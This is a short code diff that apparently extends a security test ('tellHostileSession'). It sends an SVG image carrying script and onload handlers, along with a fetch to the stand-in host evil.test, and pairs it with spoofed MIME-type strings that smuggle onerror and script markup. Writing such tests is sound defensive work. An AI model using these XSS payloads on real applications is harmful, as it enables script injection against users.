@@ -52,6 +52,16 @@ async function tellHostileSession(home: string, cwd: string): Promise<string> {
     },
   });
   await story.result(`c3${bait}`, bait);
+  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.pwned=1"><script>parent.pwned=1;fetch('https://evil.test/svg')</script><image href="https://evil.test/svg.png"/></svg>`;
+  for (const mimeType of [
+    'image/svg+xml',
+    'text/html',
+    'image/png" onerror="window.pwned=1',
+    'image/png;,<script>',
+  ])
+    await story.ask({ type: 'image', mimeType, data: Buffer.from(svg).toString('base64') });
+  // The small model writes titles.
+  await story.handle.setName(`${bait} title`);
   await story.handle.close();
   return story.handle.id;
 }
